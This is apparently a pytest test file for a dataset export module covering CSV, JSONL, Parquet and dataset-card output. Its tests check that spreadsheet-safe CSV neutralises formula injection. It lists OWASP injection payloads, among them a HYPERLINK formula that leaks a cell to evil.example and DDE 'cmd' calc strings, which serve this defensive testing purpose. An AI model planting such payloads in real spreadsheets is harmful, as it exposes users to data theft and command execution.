"""Export file formats (no database): CSV raw and spreadsheet-safe, strict JSONL, Parquet, and
the dataset card."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from reviewer.services.exports import dataset_card, formats

COLUMNS = (formats.Column("a", "str"), formats.Column("b", "str"))
OWASP_PAYLOADS = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!E1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def parse_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def strict_json(line: str) -> dict:
    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(line, parse_constant=refuse)


# ---- CSV ------------------------------------------------------------------------------------

text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40)


@hypothesis_settings(deadline=None)
@given(st.lists(st.tuples(text, text), min_size=1, max_size=8))
def test_raw_csv_gives_every_cell_back_byte_for_byte(cells):
    # Given any rows of text
    rows = [{"a": a, "b": b} for a, b in cells]

    # When they are written as raw CSV and read back
    parsed = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS)))

    # Then the header and every cell come back exactly
    assert parsed == [["a", "b"], *[[a, b] for a, b in cells]]


@hypothesis_settings(deadline=None)
@given(st.lists(st.tuples(text, text), min_size=1, max_size=8))
def test_spreadsheet_csv_never_starts_a_cell_with_a_formula(cells):
    # Given any rows of text
    rows = [{"a": a, "b": b} for a, b in cells]

    # When they are written as spreadsheet-safe CSV
    data = b"".join(formats.csv_chunks(rows, COLUMNS, spreadsheet_safe=True))
    parsed = parse_csv(data)

    # Then it starts with a BOM, every cell is quoted and in its own column, no cell starts
    # like a formula, and removing the added quote mark gives the text back
    assert data.startswith(b'\xef\xbb\xbf"a","b"\r\n')
    assert all(len(row) == 2 for row in parsed)
    for row, original in zip(parsed[1:], cells, strict=True):
        for cell, value in zip(row, original, strict=True):
            assert not cell.startswith(formats.FORMULA_TRIGGERS) or is_plain_number(cell)
            formula = value.startswith(formats.FORMULA_TRIGGERS) and not is_plain_number(value)
            assert (cell[1:] if formula else cell) == value


def is_plain_number(text: str) -> bool:
    """What a spreadsheet reads as a number, written out independently of formats.py."""
    body = text[1:] if text[:1] in ("+", "-") else text
    mantissa, e, exponent = body.replace("E", "e").partition("e")
    if exponent[:1] in ("+", "-"):
        exponent = exponent[1:]
    if e and not exponent:
        return False
    whole, _, fraction = mantissa.partition(".")
    return bool(whole or fraction) and all(c in "0123456789" for c in whole + fraction + exponent)


signed_numbers = st.one_of(
    st.integers().map(str),
    st.floats(allow_nan=False, allow_infinity=False).map(repr),
    st.decimals(allow_nan=False, allow_infinity=False).map(lambda d: f"{d:f}"),
    st.integers(min_value=0).map(lambda n: f"+{n}"),
)


@hypothesis_settings(deadline=None)
@given(st.lists(signed_numbers, min_size=1, max_size=8))
def test_spreadsheet_csv_leaves_plain_numbers_alone(numbers):  # issue 15, part 5
    # Given numbers as a spreadsheet writes them: -4, -0.5, -1e-07, +3
    rows = [{"a": number, "b": "x"} for number in numbers]

    # When they are written as spreadsheet-safe CSV
    parsed = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS, spreadsheet_safe=True)))

    # Then each is one cell, exactly as given: a number is not a formula
    assert [row[0] for row in parsed[1:]] == numbers


formula_like = (
    st.tuples(st.sampled_from(formats.FORMULA_TRIGGERS), st.text(max_size=20))
    .map("".join)
    .filter(lambda text: not is_plain_number(text))
)


@hypothesis_settings(deadline=None)
@given(formula_like)
def test_spreadsheet_csv_neutralises_what_a_spreadsheet_would_evaluate(text):
    # Given text that starts like a formula and is not a plain number (=, @, -A1, +1+1, tab...)
    rows = [{"a": text, "b": text}]

    # When it is written as spreadsheet-safe CSV and as raw CSV
    safe = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS, spreadsheet_safe=True)))
    raw = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS)))

    # Then the spreadsheet file prefixes a quote mark and the raw one keeps it byte for byte
    assert safe[1] == ["'" + text, "'" + text]
    assert raw[1] == [text, text]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("-4", "-4"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("-4 ", "'-4 "),
        ("-1/2", "'-1/2"),
        ("-1e", "'-1e"),
        ("--4", "'--4"),
        ("-", "'-"),
        ("+3+cmd|' /C calc'!A0", "'+3+cmd|' /C calc'!A0"),
        ("\t-4", "'\t-4"),
        ("-٣", "'-٣"),  # Arabic-Indic digit: not what a spreadsheet reads as a number
    ],
)
def test_neutralise_prefixes_formulas_but_not_plain_numbers(text, safe):
    assert formats.neutralise(text) == safe


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_injection_examples_stay_one_inert_cell(payload):  # D1, D2
    rows = [{"a": payload, "b": "after"}]

    safe = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS, spreadsheet_safe=True)))
    raw = parse_csv(b"".join(formats.csv_chunks(rows, COLUMNS)))

    assert safe[1] == ["'" + payload, "after"]
    assert raw[1] == [payload, "after"]


def test_a_negative_fraction_survives_raw_and_is_quoted_for_spreadsheets():
    rows = [{"a": "-1/2", "b": "-\\frac{1}{2}"}]

    raw = b"".join(formats.csv_chunks(rows, COLUMNS))
    safe = b"".join(formats.csv_chunks(rows, COLUMNS, spreadsheet_safe=True))

    assert raw == b"a,b\r\n-1/2,-\\frac{1}{2}\r\n"
    assert parse_csv(safe)[1] == ["'-1/2", "'-\\frac{1}{2}"]


def test_numbers_and_flags_are_never_prefixed():
    columns = (formats.Column("n", "int"), formats.Column("ok", "bool"))
    safe = b"".join(formats.csv_chunks([{"n": -3, "ok": False}], columns, spreadsheet_safe=True))
    assert parse_csv(safe)[1] == ["-3", "false"]


# ---- JSONL ----------------------------------------------------------------------------------

any_text = st.text(max_size=40)  # lone surrogates included


@hypothesis_settings(deadline=None)
@given(st.lists(st.tuples(any_text, any_text), min_size=1, max_size=8))
def test_jsonl_is_one_strict_ascii_json_object_per_line(cells):  # D3
    rows = [{"a": a, "b": b} for a, b in cells]

    data = b"".join(formats.jsonl_chunks(rows, COLUMNS))

    lines = data.decode("ascii").split("\n")
    assert lines[-1] == ""
    assert [strict_json(line) for line in lines[:-1]] == rows


@pytest.mark.parametrize(
    "value",
    [float("nan"), float("inf"), "NaN", "\u2028\u2029", "\ud800 lone", "a\nb\r\nc", '"}\n{"'],
)
def test_jsonl_lines_stay_valid_whatever_the_text(value):  # D3
    data = b"".join(formats.jsonl_chunks([{"a": value, "b": "x"}, {"a": "y"}], COLUMNS))

    lines = data.decode("ascii").splitlines()

    assert len(lines) == 2
    assert all(isinstance(strict_json(line), dict) for line in lines)
    assert strict_json(lines[1]) == {"a": "y", "b": None}


# ---- Parquet and schema ---------------------------------------------------------------------


def test_parquet_is_written_in_row_groups_with_typed_columns():
    columns = (
        formats.Column("n", "int"),
        formats.Column("reasons", "list"),
        formats.Column("at", "datetime"),
        formats.Column("text", "str"),
    )
    at = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    rows = ({"n": i, "reasons": ["x"] * (i % 3), "at": at, "text": "-1/2"} for i in range(2500))

    data = b"".join(formats.parquet_chunks(rows, columns, rows_per_group=1000))

    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.metadata.num_row_groups == 3
    table = parquet.read()
    assert table.num_rows == 2500
    assert table.column("reasons")[5].as_py() == ["x", "x"]
    assert table.column("at")[0].as_py() == at
    assert str(table.schema.field("n").type) == "int64"


def test_an_extra_column_named_like_an_export_column_keeps_both():
    schema = formats.dataset_schema(evaluators=["exact"], extra_keys=["gold", "difficulty"])

    names = [c.name for c in schema.columns]

    assert schema.extra_columns == {"difficulty": "difficulty", "gold": "extra_gold"}
    assert len(names) == len(set(names))
    assert "eval_exact_verdict" in names


# ---- dataset card ---------------------------------------------------------------------------


def card_row(jury, final, source="auto", a=None, b=None, by=None, at=None):
    return {
        "grade_state": "graded",
        "jury_verdict": jury,
        "final_verdict": final,
        "final_source": source,
        "eval_a_verdict": a,
        "eval_b_verdict": b,
        "reviewed_by": by,
        "reviewed_at": at,
        "jury_needs_review": source == "human",
    }


def test_card_counts_accuracy_before_and_after_review_and_agreement():
    # Given four rows: two agreed correct, one overturned by a person, one gold error
    early, late = datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 1, 2, tzinfo=UTC)
    tally = dataset_card.CardTally(evaluators=["a", "b"])
    for row in [
        card_row("correct", "correct", a="correct", b="correct"),
        card_row("correct", "correct", a="correct", b="incorrect"),
        card_row("correct", "incorrect", "human", a="correct", b="incorrect", by="ann", at=late),
        card_row("incorrect", "gold_wrong", "human", a="incorrect", by="bob", at=early),
    ]:
        tally.add(row)

    # When the card is made
    card = tally.card(about={}, evaluator_versions={"a": ["1"]})

    # Then accuracy before is the jury's 3/4, after is 2/3 (gold-wrong left out)
    assert card["accuracy"]["before_adjudication"] == 0.75
    assert card["accuracy"]["after_adjudication"] == pytest.approx(2 / 3, abs=1e-6)
    assert card["counts"]["gold_errata"] == 1
    assert card["counts"]["reviewed_by_a_person"] == 2
    assert card["counts"]["final_verdicts"] == {
        "correct": 2,
        "incorrect": 1,
        "gold_wrong": 0 + 1,
        "unclear": 0,
        "none": 0,
    }
    # and a agrees with 2 of 3 final verdicts, b with 2 of 3; both agree on 1 of 3 rows
    agreement = card["evaluator_agreement"]
    assert agreement["with_final_verdict"]["a"] == {
        "agreement": pytest.approx(2 / 3, abs=1e-6),
        "rows_compared": 3,
        "rows_answered": 4,
    }
    assert agreement["with_final_verdict"]["b"]["agreement"] == pytest.approx(2 / 3, abs=1e-6)
    assert agreement["all_evaluators_agree"] == pytest.approx(1 / 3, abs=1e-6)
    assert card["review"] == {
        "reviewers": {"ann": 1, "bob": 1},
        "first_review_at": early.isoformat(),
        "last_review_at": late.isoformat(),
    }


# ---- Django: rows, jobs, snapshot -----------------------------------------------------------


# ---- the fast writers give the bytes of the standard library's ------------------------------

cell = st.one_of(st.none(), text, st.integers(min_value=-(2**70), max_value=2**70))
MIXED = (formats.Column("a", "str"), formats.Column("n", "int"), formats.Column("b", "str"))


@hypothesis_settings(deadline=None)
@given(
    st.lists(st.tuples(text | st.none(), st.none() | st.integers(), cell), max_size=6),
    st.booleans(),
)
def test_csv_bytes_are_those_of_the_csv_module(records, safe):
    # Given records of text, numbers and empty cells, raw or spreadsheet-safe
    # When MathJury writes them, and csv.writer writes them
    ours = b"".join(formats.csv_record_chunks(records, MIXED, spreadsheet_safe=safe))
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL if safe else csv.QUOTE_MINIMAL)
    writer.writerow(["a", "n", "b"])
    for record in records:
        if safe:
            record = [formats.neutralise(v) if isinstance(v, str) else v for v in record]
        writer.writerow(record)
    # Then the bytes are the same
    assert ours == (b"\xef\xbb\xbf" if safe else b"") + buffer.getvalue().encode("utf-8")


@hypothesis_settings(deadline=None)
@given(st.lists(st.tuples(st.none() | any_text, st.none() | st.integers()), max_size=6))
def test_jsonl_bytes_are_those_of_the_json_module(records):
    # Given any text (lone surrogates, DEL, non-ASCII) and integers of any size
    columns = (formats.Column("a", "str"), formats.Column("n", "int"))

    # When MathJury writes them as JSONL
    ours = b"".join(formats.jsonl_record_chunks(records, columns))

    # Then each line is what json.dumps writes, strict and ASCII
    expected = "".join(
        json.dumps({"a": a, "n": n}, ensure_ascii=True, allow_nan=False, separators=(",", ":"))
        + "\n"
        for a, n in records
    )
    assert ours == expected.encode("ascii")


@pytest.mark.parametrize("safe", [False, True])
def test_a_one_column_file_quotes_a_lone_empty_cell_as_the_csv_module_does(safe):
    records = [("",), (None,), ("x",), ("a,b",)]
    ours = b"".join(
        formats.csv_record_chunks(records, (formats.Column("a", "str"),), spreadsheet_safe=safe)
    )
    buffer = io.StringIO(newline="")
    csv.writer(buffer, quoting=csv.QUOTE_ALL if safe else csv.QUOTE_MINIMAL).writerows(
        [("a",), *records]
    )
    assert ours == (b"\xef\xbb\xbf" if safe else b"") + buffer.getvalue().encode()
